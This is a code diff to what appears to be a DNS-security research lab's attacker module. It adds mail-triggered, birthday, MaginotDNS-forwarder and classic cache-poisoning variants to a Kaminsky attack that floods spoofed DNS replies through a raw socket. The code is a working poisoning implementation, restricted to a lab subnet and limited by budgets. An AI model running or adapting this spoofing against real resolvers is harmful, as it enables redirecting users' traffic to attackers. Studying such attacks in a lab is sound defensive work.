@@ -1,12 +1,19 @@
-"""The attacker of the real-packet lab: one Kaminsky trial with spoofed datagrams.
+"""The attacker of the real-packet lab: one trial of one attack with spoofed datagrams.
 
 Runs inside the attacker's network namespace (`python -m poisonproof.lab.real_attacker
 JSON`): learns the resolver's query port if it is not told (it makes the resolver ask the
 attacker's own zone and reads the port from its server's query log), then, attempt by
-attempt, asks the resolver for a fresh random name under the victim zone and floods
-forged referrals (the victim's server as source, the guessed port, a new set of IDs per
-window) through a raw socket, and checks, as a victim would, whether the resolver now
-sends `www.bank.example` to the attacker. Prints one JSON object with the result.
+attempt, triggers a lookup and floods forged replies (the real server's address as
+source, the guessed port, a new set of IDs per window) through a raw socket, and checks,
+as a victim would, whether the resolver now sends the victim zone to the attacker. The
+attacks are the simulated lab's (`attacks.AttackName`): `kaminsky` (a fresh random name
+under the victim zone, forged referral or answer), `birthday` (the same, triggered by
+many identical questions at once), `mail` (the lookup is made by the lab's mail service,
+`real_mail`, for the MX the attacker's zone names; the flood starts when the MX question
+reaches the attacker's own server), `forwarder` (MaginotDNS: race the resolver's question
+to its conditional forwarder with an answer that also carries the victim zone's NS set)
+and `classic` (race `www.bank.example` itself: one try per TTL, as the real answer is
+cached otherwise). Prints one JSON object with the result.
 Must never: send to an address outside the lab (every target goes through
 `check_target`), or run without a packet and time budget.
 """
@@ -49,8 +56,8 @@ class AttackerJob:
     port: int | None
     """The resolver's query source port, when the attacker is told it (SEED-style)."""
     rate: float
-    """Forged replies per second to aim at; the flood is sent as fast as the spoofer can
-    and then waits out the window, so the packets per window is rate x window."""
+    """Forged replies per second; the packets per window is rate x window (paced at this
+    rate, or sent at once and the rest of the window waited out: `paced`)."""
     window: float
     budget_packets: int
     budget_seconds: float
@@ -60,6 +67,22 @@ class AttackerJob:
     www: str = "www.bank.example."
     stop_at_first_win: bool = False
     """Stop when a forged reply is first accepted (to measure the race alone)."""
+    attack: str = "kaminsky"
+    """kaminsky, birthday, mail, forwarder or classic (see the module docstring)."""
+    mail: str | None = None
+    """`mail`: the lab mail service's address (it takes a domain per datagram, port 25)."""
+    forwarder: str | None = None
+    """`forwarder`: the resolver's conditional forwarder (the forged replies' source)."""
+    forwarded_zone: str = "corp.example."
+    ttl: float = 300.0
+    """`classic`: the real answer's TTL (the attacker waits it out between tries)."""
+    duplicates: int = 100
+    """`birthday`: identical questions per attempt."""
+    mail_names: int = 400
+    """`mail`: m0 .. m<N-1>.attacker.example have an MX in the victim zone."""
+    paced: bool = True
+    """Spread each window's forged replies evenly at `rate` (RFC 5452's R); False: send
+    them as fast as the kernel takes them and wait out the rest of the window."""
     forgery: str = "referral"
     """`referral`: a delegation of the victim zone to the attacker's server, with glue (what
     a pre-2008 resolver believed); `answer`: an authoritative answer for the random name
@@ -94,13 +117,26 @@ def _in_lab(address: str) -> bool:
     return ipaddress.ip_address(address) in LAB_SUBNET
 
 
+ATTACKS = ("kaminsky", "birthday", "mail", "forwarder", "classic")
+
+
 def forged_reply(qname: dns.name.Name, job: AttackerJob) -> bytes:
-    """The forged reply to `qname A` (ID 0), as `job.forgery` says."""
+    """The forged reply to `qname A` (ID 0), as `job.attack` and `job.forgery` say."""
     query = dns.message.make_query(qname, "A")
     reply = dns.message.make_response(query)
     reply.id = 0
     reply.authority = [dns.rrset.from_text(job.victim_zone, 86400, "IN", "NS", job.attacker_ns)]
-    if job.forgery == "answer":
+    if job.attack == "classic":
+        # the pre-2008 race: an authoritative answer for www itself
+        reply.flags |= dns.flags.AA
+        reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", job.attacker)]
+        reply.authority = []
+    elif job.attack == "forwarder":
+        # a forwarder's (recursive) answer that also hands over the victim zone
+        reply.flags |= dns.flags.RA
+        reply.answer = [dns.rrset.from_text(qname, 300, "IN", "A", job.attacker)]
+        reply.additional = [dns.rrset.from_text(job.attacker_ns, 86400, "IN", "A", job.attacker)]
+    elif job.forgery == "answer":
         reply.flags |= dns.flags.AA
         reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", job.attacker)]
     else:
@@ -118,12 +154,29 @@ class Client:
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         self.sock.bind((source, 0))
 
+    def wait_any(self, txids: list[int], timeout: float) -> list[dns.message.Message]:
+        """Every answer to one of `txids` that arrives within `timeout` (stops when all
+        have come)."""
+        pending = set(txids)
+        answers: list[dns.message.Message] = []
+        deadline = time.monotonic() + timeout
+        while pending and (left := deadline - time.monotonic()) > 0:
+            message = self.wait_for(pending, left)
+            if message is None:
+                break
+            pending.discard(message.id)
+            answers.append(message)
+        return answers
+
     def send(self, name: str, rdtype: str = "A") -> int:
         query = dns.message.make_query(name, rdtype)
         self.sock.sendto(query.to_wire(), (self.resolver, 53))
         return query.id
 
     def wait(self, txid: int, timeout: float) -> dns.message.Message | None:
+        return self.wait_for({txid}, timeout)
+
+    def wait_for(self, txids: set[int], timeout: float) -> dns.message.Message | None:
         deadline = time.monotonic() + timeout
         while (left := deadline - time.monotonic()) > 0:
             self.sock.settimeout(left)
@@ -135,7 +188,7 @@ class Client:
                 message = dns.message.from_wire(data)
             except Exception:
                 continue
-            if message.id == txid:
+            if message.id in txids:
                 return message
         return None
 
@@ -172,13 +225,62 @@ def learn_port(client: Client, log: Path, rng: random.Random, timeout: float = 3
     return None
 
 
+def _logged(log: Path, qname: str, rdtype: str) -> dict[str, object] | None:
+    """The query log record of `qname rdtype`, once the attacker's server has logged it."""
+    for line in log.read_text().splitlines() if log.exists() else []:
+        record = json.loads(line)
+        if str(record.get("qname", "")).lower() == qname and record.get("qtype") == int(
+            dns.rdatatype.from_text(rdtype)
+        ):
+            return record
+    return None
+
+
+def trigger_mail(job: AttackerJob, index: int, timeout: float = 3.0) -> bool:
+    """Mail to m<index>.attacker.example; True once its MX question reached the attacker's
+    server (the A lookup of x<index>.bank.example follows: flood now)."""
+    assert job.mail is not None
+    check_target(job.mail, _in_lab)
+    domain = f"m{index}.attacker.example."
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.bind((job.attacker, 0))
+        sock.sendto(domain.rstrip(".").encode(), (job.mail, 25))
+    deadline = time.monotonic() + timeout
+    log = Path(job.attacker_log)
+    while time.monotonic() < deadline:
+        if _logged(log, domain, "MX") is not None:
+            return True
+        time.sleep(0.0005)
+    return False
+
+
+def attack_name(job: AttackerJob, rng: random.Random, attempt: int) -> dns.name.Name:
+    """The name the resolver is made to look up in this attempt."""
+    if job.attack == "classic":
+        return dns.name.from_text(job.www)
+    if job.attack == "forwarder":
+        return dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.forwarded_zone}")
+    if job.attack == "mail":
+        return dns.name.from_text(f"x{attempt - 1:05d}.{job.victim_zone}")
+    return dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.victim_zone}")
+
+
 def run(job: AttackerJob) -> AttackerResult:
-    for address in (job.resolver, *job.victim_servers):
-        check_target(address, _in_lab)
+    if job.attack not in ATTACKS:
+        raise ValueError(f"attack {job.attack!r}: expected one of {', '.join(ATTACKS)}")
+    sources = [job.forwarder] if job.attack == "forwarder" else list(job.victim_servers)
+    if any(source is None for source in sources) or (job.attack == "mail" and not job.mail):
+        raise ValueError(f"attack {job.attack!r} needs its lab host (forwarder or mail)")
+    for address in (job.resolver, *sources):
+        check_target(str(address), _in_lab)
     rng = random.Random(job.seed)
     result = AttackerResult(port=job.port)
     client = Client(job.attacker, job.resolver)
     started = time.monotonic()
+
+    def time_left() -> float:
+        return job.budget_seconds - (time.monotonic() - started)
+
     try:
         if result.port is None:
             result.port = learn_port(client, Path(job.attacker_log), rng)
@@ -187,23 +289,27 @@ def run(job: AttackerJob) -> AttackerResult:
             result.note = "could not learn the resolver's query port"
             return result
         per_window = max(1, int(job.rate * job.window))
-        spoofers = [
-            Spoofer((server, 53), job.resolver, allowed=_in_lab) for server in job.victim_servers
-        ]
+        spoofers = [Spoofer((str(source), 53), job.resolver, allowed=_in_lab) for source in sources]
         try:
-            while (
-                result.packets < job.budget_packets
-                and time.monotonic() - started < job.budget_seconds
-            ):
+            while result.packets < job.budget_packets and time_left() > 0:
+                if job.attack == "mail" and result.attempts >= job.mail_names:
+                    result.note = "every mail name of the attacker's zone is used"
+                    break
                 result.attempts += 1
-                qname = dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.victim_zone}")
+                qname = attack_name(job, rng, result.attempts)
                 template = ReplyTemplate(forged_reply(qname, job))
                 trigger_sent = time.monotonic()
-                txid = client.send(qname.to_text())
+                txids: list[int] = []
+                if job.attack == "mail":
+                    if not trigger_mail(job, result.attempts - 1):
+                        result.note = "the mail service's MX lookup never reached us"
+                        continue
+                else:
+                    copies = job.duplicates if job.attack == "birthday" else 1
+                    txids = [client.send(qname.to_text()) for _ in range(copies)]
                 time.sleep(TRIGGER_LEAD)
                 sequence = GuessSequence.random(ID_SPACE, rng)
-                budget_left = job.budget_packets - result.packets
-                count = min(per_window, budget_left)
+                count = min(per_window, job.budget_packets - result.packets)
                 # N servers: the guesses are shared among them (the resolver picks one)
                 share = max(1, count // len(spoofers))
                 for index, spoofer in enumerate(spoofers):
@@ -214,27 +320,41 @@ def run(job: AttackerJob) -> AttackerResult:
                         ids,
                         max_packets=len(ids),
                         max_seconds=max(job.window, 0.05) * 2,
+                        # one server after the other, each its share at the full rate
+                        pace=job.rate if job.paced else None,
                     )
                     result.packets += stats.packets
                     result.flood_seconds += stats.seconds
                     result.errors += stats.errors
-                answer = client.wait(txid, job.window + 2.0)
-                if answer is not None:
-                    result.trigger_rtts.append(round(time.monotonic() - trigger_sent, 6))
-                # the trigger's own answer shows a won race; a fresh name shows whether the
-                # delegation is now the attacker's (www is not asked during the attack: a
-                # cached real answer would hide a poisoned delegation until it expires)
-                if job.attacker in addresses(answer, qname.to_text()):
+                if txids:
+                    answers = client.wait_any(txids, job.window + 2.0)
+                    if answers:
+                        result.trigger_rtts.append(round(time.monotonic() - trigger_sent, 6))
+                else:
+                    # mail: the attacker sees no answer; the harness asks what is cached now
+                    time.sleep(job.window + 0.05)
+                    answers = [m for m in [client.ask(qname.to_text())] if m is not None]
+                # a won race shows in the trigger's own answer; a fresh name then shows
+                # whether the delegation is now the attacker's (www is not asked during the
+                # attack: a cached real answer would hide a poisoned delegation)
+                if any(job.attacker in addresses(a, qname.to_text()) for a in answers):
                     result.answers_won += 1
                     if result.first_win_attempt is None:
                         result.first_win_attempt = result.attempts
-                    if job.stop_at_first_win:
+                    if job.stop_at_first_win or job.attack == "classic":
+                        result.success = job.attack == "classic"
                         break
                     fresh = f"y{rng.getrandbits(32):08x}.{job.victim_zone}"
                     if job.attacker in addresses(client.ask(fresh), fresh):
                         result.success = True
                         break
                     result.delegation_kept += 1
+                if job.attack == "classic":
+                    # the real answer is cached for its TTL: the next race is after it
+                    if time_left() < job.ttl + 1:
+                        result.note = f"the next try waits out the {job.ttl:g} s TTL: no budget"
+                        break
+                    time.sleep(job.ttl + 0.5)
             result.victim_sees = addresses(client.ask(job.www), job.www)
         finally:
             for spoofer in spoofers:
